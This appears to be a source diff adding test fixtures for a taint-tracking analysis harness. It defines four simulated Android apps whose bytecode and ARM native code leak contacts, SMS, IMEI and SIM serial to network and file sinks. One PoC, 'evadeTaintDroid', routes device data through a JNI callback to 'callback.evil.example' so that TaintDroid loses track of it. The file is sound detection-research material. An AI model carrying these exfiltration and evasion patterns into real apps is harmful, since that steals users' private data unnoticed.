@@ -1,0 +1,395 @@
+module J = Ndroid_dalvik.Jbuilder
+module B = Ndroid_dalvik.Bytecode
+module Dvalue = Ndroid_dalvik.Dvalue
+module Asm = Ndroid_arm.Asm
+module Insn = Ndroid_arm.Insn
+module Layout = Ndroid_emulator.Layout
+
+let telephony = "Landroid/telephony/TelephonyManager;"
+let contacts = "Landroid/provider/ContactsProvider;"
+let sms = "Landroid/provider/SmsProvider;"
+let socket = "Ljava/net/Socket;"
+let string_cls = "Ljava/lang/String;"
+
+let mref cls name = { B.m_class = cls; B.m_name = name }
+let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
+let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))
+let space n = List.init (n / 4) (fun _ -> Asm.Word 0)
+
+(* ------------------------------------------------------------ QQPhoneBook *)
+
+let qq_cls = "Lcom/tencent/tccsync/LoginUtil;"
+
+let qq_lib extern =
+  let open Asm in
+  let items =
+    [ (* int makeLoginRequestPackageMd5(int, 8x String, int, int)
+         args[3] (the 4th parameter) carries the contacts+SMS data.
+         Slots: env r0, cls r1, p0 r2, p1 r3, p2.. on the stack;
+         p3 = [sp, #4] before the push, [sp, #16] after. *)
+      Label "makeLoginRequestPackageMd5";
+      I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
+      mov 9 0;
+      I (Insn.ldr 1 Insn.sp 16);
+      movi 2 0;
+      mov 0 9;
+      Call "GetStringUTFChars";
+      mov 4 0;
+      (* stash it in the session buffer *)
+      La (0, "session");
+      mov 1 4;
+      Call "strcpy";
+      (* "md5": walk the buffer byte by byte — every iteration is traced by
+         the instruction tracer, exercising the LDRB/ADD/STRB rules *)
+      La (1, "session");
+      Label "mloop";
+      I (Insn.ldrb 2 1 0);
+      I (Insn.cmp 2 (Insn.Imm 0));
+      Br (Insn.EQ, "mdone");
+      I (Insn.eor 2 2 (Insn.Imm 0));
+      I (Insn.strb 2 1 0);
+      I (Insn.add 1 1 (Insn.Imm 1));
+      Br (Insn.AL, "mloop");
+      Label "mdone";
+      movi 0 0;
+      I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
+
+      (* String getPostUrl(int) — no tainted parameters. *)
+      Label "getPostUrl";
+      I (Insn.push [ Insn.r4; Insn.lr ]);
+      mov 9 0;
+      La (0, "urlbuf");
+      La (1, "urlfmt");
+      La (2, "session");
+      Call "sprintf";
+      mov 0 9;
+      La (1, "urlbuf");
+      Call "NewStringUTF";
+      I (Insn.pop [ Insn.r4; Insn.pc ]);
+
+      Align4;
+      Label "urlfmt";
+      Asciz "http://sync.3g.qq.com/xpimlogin?sid=%s";
+      Align4;
+      Label "session" ]
+    @ space 128
+    @ [ Label "urlbuf" ]
+    @ space 192
+  in
+  assemble ~extern ~base:Layout.app_lib_base items
+
+let qq_phonebook : Harness.app =
+  let main =
+    [ (* the sensitive payload: contacts + SMS, taint 0x202 *)
+      J.I (B.Invoke (B.Static, mref contacts "queryAll", []));
+      J.I (B.Move_result 0);
+      J.I (B.Const (12, Dvalue.Int 0l));
+      J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 12 ]));
+      J.I (B.Move_result 1);
+      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
+      J.I (B.Move_result 3);
+      (* the other ten arguments are boring *)
+      J.I (B.Const (0, Dvalue.Int 3l));
+      J.I (B.Const_string (1, "qquser"));
+      J.I (B.Const_string (2, "qqpass"));
+      J.I (B.Const_string (4, "f4"));
+      J.I (B.Const_string (5, "f5"));
+      J.I (B.Const_string (6, "f6"));
+      J.I (B.Const_string (7, "f7"));
+      J.I (B.Const_string (8, "f8"));
+      J.I (B.Const (9, Dvalue.Int 1l));
+      J.I (B.Const (10, Dvalue.Int 2l));
+      J.I
+        (B.Invoke
+           ( B.Static,
+             mref qq_cls "makeLoginRequestPackageMd5",
+             [ 0; 1; 2; 3; 4; 5; 6; 7; 8; 9; 10 ] ));
+      J.I (B.Move_result 11);
+      (* second call: clean parameters, tainted result under NDroid only *)
+      J.I (B.Const (12, Dvalue.Int 0l));
+      J.I (B.Invoke (B.Static, mref qq_cls "getPostUrl", [ 12 ]));
+      J.I (B.Move_result 13);
+      J.I (B.Const_string (14, "info.3g.qq.com"));
+      J.I (B.Invoke (B.Static, mref socket "send", [ 14; 13 ]));
+      J.I B.Return_void ]
+  in
+  { Harness.app_name = "QQPhoneBook3.5";
+    app_case = "case 1'";
+    description =
+      "contacts+SMS (0x202) -> makeLoginRequestPackageMd5 -> session buffer \
+       -> getPostUrl/sprintf/NewStringUTF -> Java send to sync.3g.qq.com";
+    classes =
+      [ J.class_ ~name:qq_cls ~super:"Ljava/lang/Object;"
+          [ J.native_method ~cls:qq_cls ~name:"makeLoginRequestPackageMd5"
+              ~shorty:"IILLLLLLLLII" "makeLoginRequestPackageMd5";
+            J.native_method ~cls:qq_cls ~name:"getPostUrl" ~shorty:"LI"
+              "getPostUrl";
+            J.method_ ~cls:qq_cls ~name:"main" ~shorty:"V" ~registers:16 main ] ];
+    build_libs = (fun extern -> [ ("tccsync", qq_lib extern) ]);
+    entry = (qq_cls, "main");
+    expected_sink = "Socket.send" }
+
+(* ----------------------------------------------------------------- ePhone *)
+
+let ephone_cls = "Lcom/vnet/asip/general/general;"
+
+let ephone_lib extern =
+  let open Asm in
+  let items =
+    [ (* int callregister(7x String, int, int): args[2] is the phone number.
+         p2 = first stack slot = [sp, #20] after pushing 5 registers. *)
+      Label "callregister";
+      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
+      mov 9 0;
+      I (Insn.ldr 1 Insn.sp 20);
+      movi 2 0;
+      mov 0 9;
+      Call "GetStringUTFChars";
+      mov 4 0;
+      (* sprintf(msg, REGISTER...From: "%s", phone) *)
+      La (0, "msg");
+      La (1, "sipfmt");
+      mov 2 4;
+      Call "sprintf";
+      (* memcpy(out, msg, 128) — the Fig. 7 call chain *)
+      La (0, "out");
+      La (1, "msg");
+      movi 2 128;
+      Call "memcpy";
+      La (0, "out");
+      Call "strlen";
+      mov 5 0;
+      Call "socket";
+      mov 6 0;
+      (* sendto(fd, out, len, 0, "softphone.comwave.net", _) *)
+      La (7, "sipdest");
+      I (Insn.push [ Insn.r7 ]);
+      mov 0 6;
+      La (1, "out");
+      mov 2 5;
+      movi 3 0;
+      Call "sendto";
+      I (Insn.add 13 13 (Insn.Imm 4));
+      movi 0 0;
+      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
+      Align4;
+      Label "sipfmt";
+      Asciz "REGISTER sip:softphone.comwave.net SIP/2.0 Via: SIP/2.0/UDP From: \"%s\"";
+      Label "sipdest";
+      Asciz "softphone.comwave.net";
+      Align4;
+      Label "msg" ]
+    @ space 192
+    @ [ Label "out" ]
+    @ space 192
+  in
+  assemble ~extern ~base:Layout.app_lib_base items
+
+let ephone : Harness.app =
+  let main =
+    [ J.I (B.Const (9, Dvalue.Int 0l));
+      J.I (B.Invoke (B.Static, mref contacts "getContactPhone", [ 9 ]));
+      J.I (B.Move_result 2);
+      J.I (B.Const_string (0, "sip-user"));
+      J.I (B.Const_string (1, "comwave"));
+      J.I (B.Const_string (3, "udp"));
+      J.I (B.Const_string (4, "5060"));
+      J.I (B.Const_string (5, "auth"));
+      J.I (B.Const_string (6, "realm"));
+      J.I (B.Const (7, Dvalue.Int 1l));
+      J.I (B.Const (8, Dvalue.Int 2l));
+      J.I
+        (B.Invoke (B.Static, mref ephone_cls "callregister",
+                   [ 0; 1; 2; 3; 4; 5; 6; 7; 8 ]));
+      J.I B.Return_void ]
+  in
+  { Harness.app_name = "ePhone3.3";
+    app_case = "case 2";
+    description =
+      "contact phone (0x2) -> callregister -> GetStringUTFChars -> \
+       sprintf/memcpy -> sendto softphone.comwave.net";
+    classes =
+      [ J.class_ ~name:ephone_cls ~super:"Ljava/lang/Object;"
+          [ J.native_method ~cls:ephone_cls ~name:"callregister"
+              ~shorty:"ILLLLLLLII" "callregister";
+            J.method_ ~cls:ephone_cls ~name:"main" ~shorty:"V" ~registers:12 main ] ];
+    build_libs = (fun extern -> [ ("asip", ephone_lib extern) ]);
+    entry = (ephone_cls, "main");
+    expected_sink = "sendto" }
+
+(* ------------------------------------------------------------- PoC case 2 *)
+
+let demos_cls = "Lcom/ndroid/demos/Demos;"
+
+let poc2_lib extern =
+  let open Asm in
+  let items =
+    [ (* boolean recordContact(String id, String name, String email)
+         slots: env r0, cls r1, id r2, name r3, email [sp] -> [sp, #20]. *)
+      Label "recordContact";
+      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.lr ]);
+      mov 9 0;
+      (* id chars *)
+      mov 1 2;
+      movi 2 0;
+      mov 0 9;
+      Call "GetStringUTFChars";
+      mov 4 0;
+      (* name chars *)
+      mov 1 3;
+      movi 2 0;
+      mov 0 9;
+      Call "GetStringUTFChars";
+      mov 5 0;
+      (* email chars (stack argument) *)
+      I (Insn.ldr 1 Insn.sp 20);
+      movi 2 0;
+      mov 0 9;
+      Call "GetStringUTFChars";
+      mov 6 0;
+      (* FILE* f = fopen("/sdcard/CONTACTS", "a") *)
+      La (0, "path");
+      La (1, "fmode");
+      Call "fopen";
+      mov 7 0;
+      (* fprintf(f, "%s %s %s  ", id, name, email) *)
+      I (Insn.push [ Insn.r6 ]);
+      mov 0 7;
+      La (1, "fmt");
+      mov 2 4;
+      mov 3 5;
+      Call "fprintf";
+      I (Insn.add 13 13 (Insn.Imm 4));
+      (* fclose(f) *)
+      mov 0 7;
+      Call "fclose";
+      movi 0 1;
+      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.r7; Insn.pc ]);
+      Align4;
+      Label "path";
+      Asciz "/sdcard/CONTACTS";
+      Label "fmode";
+      Asciz "a";
+      Label "fmt";
+      Asciz "%s %s %s  " ]
+  in
+  assemble ~extern ~base:Layout.app_lib_base items
+
+let poc_case2 : Harness.app =
+  let main =
+    [ J.I (B.Const (4, Dvalue.Int 0l));
+      J.I (B.Invoke (B.Static, mref contacts "getContactId", [ 4 ]));
+      J.I (B.Move_result 0);
+      J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 4 ]));
+      J.I (B.Move_result 1);
+      J.I (B.Invoke (B.Static, mref contacts "getContactEmail", [ 4 ]));
+      J.I (B.Move_result 2);
+      J.I (B.Invoke (B.Static, mref demos_cls "recordContact", [ 0; 1; 2 ]));
+      J.I (B.Move_result 3);
+      J.I B.Return_void ]
+  in
+  { Harness.app_name = "PoC-case2";
+    app_case = "case 2";
+    description =
+      "contact id/name/email (0x2) -> recordContact -> fopen + fprintf to \
+       /sdcard/CONTACTS (Fig. 8)";
+    classes =
+      [ J.class_ ~name:demos_cls ~super:"Ljava/lang/Object;"
+          [ J.native_method ~cls:demos_cls ~name:"recordContact" ~shorty:"ZLLL"
+              "recordContact";
+            J.method_ ~cls:demos_cls ~name:"main" ~shorty:"V" main ] ];
+    build_libs = (fun extern -> [ ("demos", poc2_lib extern) ]);
+    entry = (demos_cls, "main");
+    expected_sink = "fprintf" }
+
+(* ------------------------------------------------------------- PoC case 3 *)
+
+let poc3_lib extern =
+  let open Asm in
+  let items =
+    [ (* void evadeTaintDroid(String deviceInfo) *)
+      Label "evadeTaintDroid";
+      I (Insn.push [ Insn.r4; Insn.r5; Insn.r6; Insn.lr ]);
+      mov 9 0;
+      (* chars = GetStringUTFChars(env, info, NULL) *)
+      mov 1 2;
+      movi 2 0;
+      Call "GetStringUTFChars";
+      mov 4 0;
+      (* newstr = NewStringUTF(env, chars) — step 1 of Fig. 9 *)
+      mov 0 9;
+      mov 1 4;
+      Call "NewStringUTF";
+      mov 5 0;
+      (* cls = FindClass("Lcom/ndroid/demos/Demos;") *)
+      mov 0 9;
+      La (1, "cb_cls");
+      Call "FindClass";
+      mov 6 0;
+      (* mid = GetStaticMethodID(cls, "nativeCallback", "(Ljava/lang/String;)V") *)
+      mov 0 9;
+      mov 1 6;
+      La (2, "cb_name");
+      La (3, "cb_sig");
+      Call "GetStaticMethodID";
+      (* CallStaticVoidMethod(env, cls, mid, newstr) — step 2 *)
+      mov 2 0;
+      mov 1 6;
+      mov 3 5;
+      mov 0 9;
+      Call "CallStaticVoidMethod";
+      I (Insn.pop [ Insn.r4; Insn.r5; Insn.r6; Insn.pc ]);
+      Align4;
+      Label "cb_cls";
+      Asciz "Lcom/ndroid/demos/Demos;";
+      Label "cb_name";
+      Asciz "nativeCallback";
+      Label "cb_sig";
+      Asciz "(Ljava/lang/String;)V" ]
+  in
+  assemble ~extern ~base:Layout.app_lib_base items
+
+let poc_case3 : Harness.app =
+  let main =
+    [ (* device info with combined taint 0x1602 = imei|iccid|sms|contacts *)
+      J.I (B.Invoke (B.Static, mref telephony "getDeviceId", []));
+      J.I (B.Move_result 0);
+      J.I (B.Invoke (B.Static, mref telephony "getSimSerialNumber", []));
+      J.I (B.Move_result 1);
+      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
+      J.I (B.Move_result 0);
+      J.I (B.Const (4, Dvalue.Int 0l));
+      J.I (B.Invoke (B.Static, mref sms "getSmsBody", [ 4 ]));
+      J.I (B.Move_result 1);
+      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
+      J.I (B.Move_result 0);
+      J.I (B.Invoke (B.Static, mref contacts "getContactName", [ 4 ]));
+      J.I (B.Move_result 1);
+      J.I (B.Invoke (B.Virtual, mref string_cls "concat", [ 0; 1 ]));
+      J.I (B.Move_result 0);
+      J.I (B.Invoke (B.Static, mref demos_cls "evadeTaintDroid", [ 0 ]));
+      J.I B.Return_void ]
+  in
+  let native_callback =
+    (* void nativeCallback(String s) { Socket.send("callback...", s); } *)
+    [ J.I (B.Const_string (0, "callback.evil.example"));
+      J.I (B.Invoke (B.Static, mref socket "send", [ 0; 4 ]));
+      J.I B.Return_void ]
+  in
+  { Harness.app_name = "PoC-case3";
+    app_case = "case 3 (Fig. 9 PoC)";
+    description =
+      "device info (0x1602) -> evadeTaintDroid -> NewStringUTF -> \
+       CallStaticVoidMethod(nativeCallback) -> Java send";
+    classes =
+      [ J.class_ ~name:demos_cls ~super:"Ljava/lang/Object;"
+          [ J.native_method ~cls:demos_cls ~name:"evadeTaintDroid" ~shorty:"VL"
+              "evadeTaintDroid";
+            J.method_ ~cls:demos_cls ~name:"nativeCallback" ~shorty:"VL"
+              ~registers:5 native_callback;
+            J.method_ ~cls:demos_cls ~name:"main" ~shorty:"V" main ] ];
+    build_libs = (fun extern -> [ ("demos3", poc3_lib extern) ]);
+    entry = (demos_cls, "main");
+    expected_sink = "Socket.send" }
+
+let all = [ qq_phonebook; ephone; poc_case2; poc_case3 ]
